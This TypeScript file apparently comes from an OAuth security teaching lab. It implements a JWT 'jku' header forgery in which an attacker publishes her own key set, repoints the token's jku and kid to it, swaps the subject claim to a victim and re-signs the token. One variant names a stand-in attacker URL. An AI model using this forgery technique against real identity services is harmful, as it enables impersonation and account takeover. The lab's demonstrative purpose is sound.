import { patched, readToken } from '@/lib/attack-lab/forge';
import { mallorysKeyPair, signedToken } from '@/lib/attack-lab/mallory-keys';
import { ok } from '@/lib/oauth-client/result';
import { JKU_STEPS } from './jku.steps';
import { forgeFailed, VICTIM, VICTIM_NAME } from './mallory';
import { publishMallorysJwks } from './mallory-keys';
import { tokenForgeryMachine, type Forger } from './token-forgery';

/** Where her `jku` points: her key set on the lab's attacker site, or a URL outside the lab. */
export const JKU_TARGETS = ['attacker-site', 'elsewhere'] as const;
/** A host that cannot exist (RFC 2606 §3): the lab refuses it without a request either way. */
export const OUTSIDE_JKU = 'https://mallory.example/.well-known/jwks.json';

/**
 * RFC 7515 §4.1.2, RFC 8725 §3.10: Mallory publishes her own key set (recorded PUT to her site),
 * signs with her key and names that key set in `jku`.
 */
export const forgeJku: Forger = async ({ step, own, realm, variant }) => {
  const read = readToken(own.tokens.access_token);
  if (!read.ok) return forgeFailed(step, read.message);
  const mine = await mallorysKeyPair();
  const published = await publishMallorysJwks(step, realm, mine.publicJwk);
  if (!published.result.ok) return { ...published, result: published.result };
  const jku = variant === 'elsewhere' ? OUTSIDE_JKU : published.result.value;
  const header = patched(read.value.header, { alg: 'ES256', kid: mine.publicJwk.kid, jku });
  const token = await signedToken({ header, payload: patched(read.value.payload, { sub: VICTIM }) }, mine.privateKey);
  const facts = [
    { label: 'Her key set', value: `published at ${published.result.value}` },
    { label: 'Header jku', value: jku },
    { label: 'Header kid', value: `${String(read.value.header.kid)} → ${String(mine.publicJwk.kid)} (her key)` },
    { label: 'Claim sub', value: `${String(read.value.payload.sub)} → ${VICTIM}` },
  ];
  const sent =
    variant === 'elsewhere'
      ? 'the token whose jku names a URL outside the lab'
      : 'the token signed with her key, its jku naming her key set';
  return { step, exchanges: published.exchanges, facts, result: ok({ token, victim: VICTIM, victimName: VICTIM_NAME, sent }) };
};

export const jkuMachine = tokenForgeryMachine('jku', JKU_STEPS, forgeJku);
